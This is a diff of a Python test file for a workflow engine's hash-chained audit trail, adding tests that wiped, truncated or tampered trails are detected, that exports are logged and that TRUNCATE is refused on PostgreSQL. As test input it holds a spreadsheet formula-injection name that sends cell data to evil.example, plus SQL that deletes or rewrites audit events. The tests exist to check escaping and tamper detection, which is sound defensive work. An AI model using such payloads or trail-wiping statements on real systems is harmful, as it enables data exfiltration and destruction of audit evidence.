@@ -13,10 +13,11 @@ from datetime import datetime, timedelta, timezone
 import pytest
 from alembic import command
 from click.testing import CliRunner
-from sqlalchemy import event, select, text
+from sqlalchemy import event, func, select, text
 from sqlalchemy.exc import DatabaseError
 
 import engine.audit as audit
+from engine import clock
 from engine.audit import public_url, verify
 from engine.cli import main
 from engine.commands import Engine
@@ -74,8 +75,10 @@ def test_an_anchor_catches_a_cut_off_end_the_chain_alone_cannot(engine, people, 
     anchor_file = tmp_path / "anchor.json"
     cli(engine.db, "audit", "anchor", "--output", str(anchor_file), "--as", "chen")
     anchor = json.loads(anchor_file.read_text(encoding="utf-8"))
-    engine.add_group("pilot", "试点小组")
-    engine.add_user("qian", "钱七", groups=["pilot"])
+    # events that leave no record in the state tables (a user or group added would: verify then
+    # finds it without its event, test_a_cut_off_end_is_caught_by_the_records_it_leaves_behind)
+    for name in ("mallory", "eve"):
+        engine.sign_in_refused(name, address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
 
     intact = verify_json(engine.db, anchor_file)
     assert intact["ok"] and intact["anchors"][0]["status"] == "ok"
@@ -97,6 +100,87 @@ def test_an_anchor_catches_a_cut_off_end_the_chain_alone_cannot(engine, people, 
     not_an_anchor.write_text('{"seq": 3}', encoding="utf-8")
     refused = cli(engine.db, "audit", "verify", "--anchor", str(not_an_anchor), code=3)
     assert 'an anchor needs "seq", a positive integer, and "hash"' in refused.stderr
+
+
+def test_a_cut_off_end_is_caught_by_the_records_it_leaves_behind(engine, people):
+    """QA auditor finding 1: a cut tail verified as intact although the users, plans and tasks its
+    events created were still in the database. Without an anchor, verify now names them."""
+    cli(engine.db, "deploy", str(FIXTURES / "diagrams" / "mini_approval.bpmn"))
+    with engine.db.reader() as s:
+        before = s.execute(select(func.max(AuditEvent.seq))).scalar_one()
+    engine.add_group("pilot", "试点小组")
+    engine.add_user("qian", "钱七", groups=["pilot"])
+    cli(engine.db, "start", "mini_approval", "--as", "zhang", "--title", "深化财政预算管理制度改革方案")
+    cut_back_to(engine.db, before)
+    result = cli(engine.db, "audit", "verify", code=1)
+    problems = verify_json(engine.db, code=1)["problems"]
+    assert problems == [line for line in result.stdout.splitlines() if not line.startswith("注意")]
+    said = "\n".join(problems)
+    assert "用户 qian 仍在数据库中，却没有 user_added 事件" in said and "user qian has no user_added event" in said
+    assert "角色 pilot 仍在数据库中，却没有 group_added 事件" in said
+    assert "plan 1 has no instance_started event" in said and "task 1 has no task_created event" in said
+    assert problems[0].startswith("审计记录缺失事件：") and "the audit trail is missing events for records that exist" in problems[0]
+
+
+def test_an_export_goes_on_the_trail_by_whom_in_which_format_up_to_which_event(engine, people, tmp_path):
+    """QA auditor finding 10: exporting left no trace; now an `audit_exported` event, as a check's `audit_verified`."""
+    from engine.trail_text import said
+    cli(engine.db, "audit", "export", "--output", str(tmp_path / "a.jsonl"), "--as", "chen")
+    exported = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()]
+    cli(engine.db, "audit", "export", "--format", "csv")  # standard output, the operator
+    with engine.db.reader() as s:
+        first, second = s.execute(select(AuditEvent).where(AuditEvent.event_type == "audit_exported")
+                                  .order_by(AuditEvent.seq)).scalars().all()
+    assert (first.actor, first.instance_id, first.seq) == ("chen", None, exported[-1]["seq"] + 1)
+    assert json.loads(first.payload) == {"format": "jsonl", "plan": None, "events": len(exported),
+                                         "last_seq": exported[-1]["seq"], "last_hash": exported[-1]["hash"], "via": "cli"}
+    assert second.actor == "system" and json.loads(second.payload)["last_seq"] == first.seq
+    line = said({"event_type": "audit_exported", "payload": json.loads(first.payload), "name": None}, "zh")
+    assert line == f"导出审计记录：全部，jsonl，事件 {len(exported)}，至事件 {exported[-1]['seq']}"
+    refused = cli(engine.db, "audit", "export", "--as", "nobody", code=4)
+    assert "nobody" in refused.stderr
+    assert verify_json(engine.db)["ok"]
+
+
+def test_a_wiped_trail_next_to_a_full_database_is_not_intact(engine, people):
+    """QA auditor finding 1: every event deleted and the head set back to the genesis verified as
+    "intact: 0 events". The files and comments are then not blamed as added behind the system's back."""
+    cli(engine.db, "deploy", str(FIXTURES / "diagrams" / "mini_approval.bpmn"))
+    cli(engine.db, "start", "mini_approval", "--as", "zhang", "--title", "深化财政预算管理制度改革方案")
+    engine.comment(1, "请补充成本测算", actor="zhang")
+    tamper(engine.db, "DELETE FROM audit_events", "UPDATE audit_head SET last_seq = 0, last_hash = :genesis",
+           genesis=audit.GENESIS_HASH)
+    result = verify_json(engine.db, code=1)
+    assert result["events"] == 0 and not result["ok"]
+    said = "\n".join(result["problems"])
+    for line in ("plan 1 has no instance_started event", "task 1 has no task_created event", "users chen, huang, li, lin, liu, sun, wang, wu, zhang, zhao, … (11 in all) have no user_added event",
+                 "groups ", "process mini_approval v1 has no deployed event"):
+        assert line in said
+    assert "绕过系统添加" not in said.replace("而非留言绕过系统添加", "")
+    assert ("留言 1 的事件不在审计记录中：审计记录缺失事件（见上），而非留言绕过系统添加 (comment 1: its event is not in the "
+            "audit trail, which has lost events (see above), rather than the comment having been added behind the "
+            "system's back)") in result["problems"]
+    shown = cli(engine.db, "audit", "verify", code=1)
+    assert "审计记录完好" not in shown.stdout and "audit trail broken" in shown.stderr
+
+
+def test_the_records_check_is_a_few_queries_not_one_per_row(engine, people):
+    """The cross-check is set-based: its statements do not grow with the rows it checks."""
+    cli(engine.db, "deploy", str(FIXTURES / "diagrams" / "mini_approval.bpmn"))
+    counts = []
+    for n in (1, 4):
+        for i in range(n):
+            cli(engine.db, "start", "mini_approval", "--as", "zhang", "--title", f"方案{n}-{i}")
+        statements = []
+        with engine.db.reader() as s:
+            listener = lambda *a: statements.append(1)  # noqa: E731
+            event.listen(s.get_bind(), "before_cursor_execute", listener)
+            try:
+                assert audit.unrecorded_records(s) == []
+            finally:
+                event.remove(s.get_bind(), "before_cursor_execute", listener)
+        counts.append(len(statements))
+    assert counts[0] == counts[1] <= 10
 
 
 def test_an_anchor_catches_an_event_rewritten_before_it_with_the_chain_rehashed(engine, people, tmp_path):
@@ -167,6 +251,7 @@ def test_a_backdated_now_shows_in_recorded_at_and_export_json_recomputes(engine,
     before = datetime.now(timezone.utc)
     cli(engine.db, "--now", "2020-01-01T09:00:00", "groups", "add", "backdated", "--display-name", "补记")
     after = datetime.now(timezone.utc)
+    clock.set_override(None)  # as the next command, a process of its own, starts: its export is on the trail
     with warnings.catch_warnings():
         warnings.simplefilter("error", DeprecationWarning)  # click.get_text_stream is gone
         exported = json.loads(cli(engine.db, "audit", "export", "--json").stdout)
@@ -184,7 +269,7 @@ def test_a_backdated_now_shows_in_recorded_at_and_export_json_recomputes(engine,
         f"{row['seq']} (1 event(s) have a business time more than 5 minutes from the time they were written: entered "
         f"with a date other than the real one (a date set by hand, or the demo data); first: event {row['seq']})"]
     csv_header = cli(engine.db, "audit", "export", "--format", "csv").stdout.splitlines()[0]
-    assert csv_header.split(",")[-1] == "recorded_at"
+    assert csv_header.split(",")[9] == "实际写入时间，UTC (recorded_at)"
     refused = cli(engine.db, "audit", "export", "--format", "csv", "--json", code=3)
     assert json.loads(refused.stdout)["error"] == "invalid"
 
@@ -381,7 +466,10 @@ def test_a_name_typed_as_a_formula_is_text_in_the_csv_export_and_the_hash_still_
     typed = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'
     engine.sign_in_refused(typed, address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
     engine.sign_in_refused("'quoted", address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
-    rows = list(csv.DictReader(io.StringIO(cli(engine.db, "audit", "export", "--format", "csv").stdout.lstrip("\ufeff"))))
+    exported = csv.reader(io.StringIO(cli(engine.db, "audit", "export", "--format", "csv").stdout.lstrip("\ufeff")))
+    header = next(exported)  # 序号 (seq), …: the hashed fields by name in brackets, then the readable columns
+    fields = [h.rsplit("(", 1)[1].rstrip(")") if h.endswith(")") else h for h in header]
+    rows = [{k: v for k, v in zip(fields, line) if k in audit.EXPORT_FIELDS} for line in exported]
     actors = [r["actor"] for r in rows]
     assert "'" + typed in actors and typed not in actors and "''quoted" in actors
     assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@"]  # nothing Excel would run
@@ -407,6 +495,10 @@ def test_an_event_removed_and_the_rest_renumbered_is_one_line_not_one_per_event(
     renumbered = last - 10  # events 11..last are now 10..last-1
     result = cli(engine.db, "audit", "verify", code=1)
     lines = result.stdout.splitlines()
+    # event 10 added the tenth group: the group is there, its event is not
+    gone = ("审计记录缺失事件：角色 party_office 仍在数据库中，却没有 group_added 事件，审计记录被清空、截断或删去了事件 (the audit "
+            "trail is missing events for records that exist: group party_office has no group_added event; the trail was "
+            "emptied, cut or had events removed)")
     assert lines == [
         "事件 10 与前一事件的哈希链接断开，之前有事件被删除、插入或改动 (event 10: previous-hash link broken: an event "
         "before it was removed, inserted or changed)",
@@ -415,14 +507,14 @@ def test_an_event_removed_and_the_rest_renumbered_is_one_line_not_one_per_event(
         "their hashes: they were changed; a run starting at one event is what an event inserted or removed before it "
         "looks like, the events after it renumbered)",
         f"哈希链止于事件 {last - 1}，而记录的链头是事件 {last}，末尾的事件被删除或添加 (chain ends at event {last - 1} "
-        f"but the recorded head is event {last}: events at the end were removed or added)"]
-    assert "audit trail broken: 3 problem(s)" in result.stderr
+        f"but the recorded head is event {last}: events at the end were removed or added)", gone]
+    assert "audit trail broken: 4 problem(s)" in result.stderr
     assert verify_json(engine.db, code=1)["problems"] == lines
     # one changed event in the middle of the run's kind is still said on its own, as before
     tamper(engine.db, "UPDATE audit_events SET actor = 'mallory' WHERE seq = 3")
     problems = verify_json(engine.db, code=1)["problems"]
     assert problems[0] == ("事件 3 的内容与其哈希不符，该事件被改动 (event 3: content does not match its hash: "
-                           "the event was changed)") and len(problems) == 4
+                           "the event was changed)") and len(problems) == 5
 
 
 def test_the_app_roles_rights_let_it_append_a_forged_event_that_verifies_as_documented(engine, people, tmp_path):
@@ -445,3 +537,17 @@ def test_the_app_roles_rights_let_it_append_a_forged_event_that_verifies_as_docu
                      {"seq": head.last_seq + 1, "hash": digest})
     checked = verify_json(engine.db, anchor_file)
     assert checked["ok"] and checked["anchors"][0]["status"] == "ok" and checked["anchors"][0]["appended_after"] == 1
+
+
+@pytest.mark.parametrize("table", ["audit_events", "documents", "comments"])
+def test_truncate_of_an_append_only_table_is_refused_on_postgresql(postgres_db, table):
+    """QA auditor finding 6: the row triggers refuse UPDATE and DELETE, but TRUNCATE fires no row
+    trigger and emptied the trail in one statement, even as the tables' owner (migration 0024)."""
+    engine = Engine(postgres_db)
+    engine.add_group("legal", "法制机构")  # one event, which the TRUNCATE would take away
+    with pytest.raises(DatabaseError, match=f"{table} is append-only"):
+        with postgres_db.engine.begin() as conn:
+            conn.execute(text(f"TRUNCATE {table} CASCADE"))
+    with postgres_db.reader() as s:
+        assert s.execute(select(func.count()).select_from(AuditEvent)).scalar_one() == 1
+        assert verify(s).ok
